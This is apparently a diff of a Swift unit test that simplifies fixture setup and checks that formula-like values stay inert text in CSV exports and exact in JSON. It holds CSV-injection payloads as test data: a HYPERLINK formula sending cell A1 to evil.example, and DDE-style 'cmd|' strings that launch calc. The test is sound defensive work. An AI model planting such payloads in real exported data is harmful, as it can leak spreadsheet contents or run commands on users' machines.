@@ -8,19 +8,7 @@ import Testing
     @Test func valuesASpreadsheetWouldRunAreTextInTheCSVAndExactInTheJSON() throws {
         let folder = try JobFolder()
         try folder.writeJob()
-        try folder.write("register.yml", """
-            customers:
-              - id: cust-a
-                instructions: [{ id: dpa, kind: dpa, ref: "DPA v1", effective: 2025-01-01 }]
-                purposes: [service]
-                data_categories: [user]
-                subprocessors:
-                  - { id: sp-x, instruction: dpa, purposes: [service], data_categories: [user] }
-            """)
-        try folder.write("catalog.json", """
-            {"subprocessors": [{"id": "sp-x", "purposes": ["service"], "data_categories": ["user"],
-              "endpoints": ["api.x.example"], "listed_since": "2024-01-01"}]}
-            """)
+        try folder.writeOneCustomer()
         let customer = #"=HYPERLINK("https://evil.example/?"&A1,"open")"#
         let purpose = "@SUM(1+1)*cmd|' /C calc'!A0"
         let host = "+1+cmd|'"
